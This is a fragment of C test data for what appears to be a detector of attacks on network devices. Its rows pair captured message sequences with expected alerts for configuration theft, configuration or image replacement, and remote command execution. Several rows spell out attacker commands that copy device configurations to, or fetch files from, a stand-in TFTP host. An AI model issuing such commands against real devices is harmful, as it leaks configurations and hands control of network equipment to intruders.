/* SPDX-License-Identifier: BSD-2-Clause */
/* Rows of situations.h: several acts, actors and devices at once; what lies outside the capture; translated addresses. */
    {"several acts in a row on one device, each told", "", "",
     PROBE ACTIVE "f 1 1 A>D a 24 24\n" STEAL "f 10 2 A>D a 1048 0\n"
     "m 30 3 A>D download_config config_replacement u=tftp://198.51.100.7/my.conf\nf 30 3 A>D a 312 0\n"
     "m 50 4 A>D download_image image_replacement u=tftp://198.51.100.7/i.tar\nf 50 4 A>D a 468 0\n"
     "m 70 5 A>D execute command_execution u=tftp://198.51.100.7/e.txt\nf 70 5 A>D a 544 0\n",
     "A>D config-exfiltration attempted high unknown 3\nA>D config-replacement attempted high unknown 1\n"
     "A>D image-replacement attempted high unknown 1\nA>D command-execution attempted critical unknown 1\n",
     "D client enabled\n"},
    {"two thefts an hour apart, the file of the second moved", "", "",
     SEND "m 4000 3 A>D backup_request config_exfiltration c=copy_flash:/config.text_tftp://198.51.100.7/d.conf\n"
          "f 4000 3 A>D a 1048 0\nt 4010 5 D>A closed d.conf s 700\n",
     "A>D config-exfiltration attempted high unknown 1\nA>D config-exfiltration succeeded critical unknown 1\n",
     "D unknown unknown\n"},
    {"two thefts an hour apart, the file of the first moved", "", "",
     SEND "m 4000 3 A>D backup_request config_exfiltration c=copy_flash:/config.text_tftp://198.51.100.7/d.conf\n"
          "f 4000 3 A>D a 1048 0\nt 20 5 D>A closed d.conf s 700\n",
     "A>D config-exfiltration succeeded critical unknown 1\nA>D config-exfiltration attempted high unknown 1\n",
     "D unknown unknown\n"},
    {"one actor, three devices, one of them obeyed, one refused, one was silent", "", "",
     "m 10 2 A>D download_config config_replacement u=tftp://198.51.100.7/conf/D.conf\nf 10 2 A>D a 312 0\n"
     "m 11 3 A>E download_config config_replacement u=tftp://198.51.100.7/conf/E.conf\nf 11 3 A>E r 312 0\n"
     "m 12 4 A>F download_config config_replacement u=tftp://198.51.100.7/conf/F.conf\nf 12 4 A>F a 312 0\n"
     "t 20 5 D>A closed conf/D.conf c 700\n",
     "A>D config-replacement succeeded critical unknown 1\nA>E config-replacement failed high unknown 1\n"
     "A>F config-replacement attempted high unknown 1\n",
     "D unknown unknown\nE unknown unknown\nF unknown unknown\n"},
    {"two actors, one device, each its own file", "", "",
     "m 10 2 A>D backup_request config_exfiltration c=copy_running-config_tftp://198.51.100.7/a\nf 10 2 A>D a 1048 0\n"
     "m 11 3 B>D backup_request config_exfiltration c=copy_running-config_tftp://198.51.100.8/b\nf 11 3 B>D a 1048 0\n"
     "t 20 5 D>B closed b s 700\n",
     "A>D config-exfiltration attempted high unknown 1\nB>D config-exfiltration succeeded critical unknown 1\n",
     "D unknown unknown\n"},
    {"the command outside the capture, the confirmation inside", "", "",
     "m 40 3 D>A backup_response backup_confirmed s=1\nf 41 3 D>A a 92 0\n", "", "D client enabled\n"},
    {"the transfer outside the capture", "", "", SEND, "A>D config-exfiltration attempted high unknown 1\n",
     "D unknown unknown\n"},
    {"a translated device: commands go to its outer address, the file comes from another one", "", "",
     SEND "t 20 5 F>A closed d.conf s 700\n", "A>D config-exfiltration unknown high unknown 1\n", "D unknown unknown\n"},
    {"a translated actor: the URL names its inner address, the file goes to the outer one", "", "",
     "m 10 2 A>D backup_request config_exfiltration c=copy_running-config_tftp://192.0.2.12/d.conf\nf 10 2 A>D a 1048 0\n"
     "t 20 5 D>A closed d.conf s 700\n",
     "A>D config-exfiltration unknown high unknown 1\n", "D unknown unknown\n"},
    {"a translated device whose report comes from its inner address", "", "",
     STEAL "f 10 2 A>D a 1048 0\nm 40 3 F>A backup_response backup_confirmed s=1\nf 41 3 F>A a 92 0\n",
     "A>D config-exfiltration attempted high unknown 1\n", "D unknown unknown\nF client enabled\n"},
    {"the file is known to be ordered, its name is another and so is an end", "", "",
     "m 10 2 A>D download_config config_replacement u=tftp://files/my.conf\nf 10 2 A>D a 312 0\n"
     "t 20 5 D>B closed renamed c 700 o=2\n",
     "A>D config-replacement succeeded critical unknown 1\n", "D unknown unknown\n"},
    {"a host that is a name: wherever the device fetches it from", "", "",
     "m 10 2 A>D download_config config_replacement u=tftp://files/my.conf\nf 10 2 A>D a 312 0\n"
     "t 20 5 D>B closed my.conf c 700\n",
     "A>D config-replacement succeeded critical unknown 1\n", "D unknown unknown\n"},
    {"an unlisted actor beside a director at work on the same device", "192.0.2.1", "",
     "m 9 7 M>D backup_request director_backup c=copy_nvram:startup-config_tftp://192.0.2.1/s.REV2\nf 9 7 M>D a 1048 0\n"
     STEAL "f 10 2 A>D a 1048 0\nt 20 5 D>M closed s.REV2 s 700\n",
     "M>D director-activity succeeded info yes 1\nA>D config-exfiltration attempted high no 1\n",
     "M director unknown\nD unknown unknown\n"},
    {"two probes of two actors answered", "", "",
     PROBE ACTIVE "f 1 1 A>D a 24 24\nm 2 2 B>D capabilities_request probe\nm 2 2 B<D capabilities_response client_active\n"
     "f 2 2 B>D a 24 24\n",
     "A>D probe answered low unknown 2\nB>D probe answered low unknown 2\n", "D client enabled\n"},
    {"a listed director's probe is its work", "192.0.2.1", "",
     "m 1 1 M>D capabilities_request probe\nf 1 1 M>D a 24 0\n", "M>D director-activity attempted info yes 1\n",
     "M director unknown\nD unknown unknown\n"},
    {"one message orders a file to leave and another to come, one left", "", "",
     "m 10 2 A>D backup_request config_exfiltration,config_replacement "
     "c=copy_startup-config_tftp://198.51.100.7/old.conf_copy_tftp://198.51.100.7/new.conf_running-config\n"
     "f 10 2 A>D a 1048 0\nt 20 5 D>A closed old.conf s 700\n",
     "A>D config-exfiltration succeeded critical unknown 1\nA>D config-replacement attempted high unknown 1\n",
     "D unknown unknown\n"},
    {"one message orders a file to leave and another to come, both moved", "", "",
     "m 10 2 A>D backup_request config_exfiltration,config_replacement "
     "c=copy_startup-config_tftp://198.51.100.7/old.conf_copy_tftp://198.51.100.7/new.conf_running-config\n"
     "f 10 2 A>D a 1048 0\nt 20 5 D>A closed old.conf s 700\nt 30 6 D>A closed new.conf c 700\n",
     "A>D config-exfiltration succeeded critical unknown 1\nA>D config-replacement succeeded critical unknown 1\n",
     "D unknown unknown\n"},
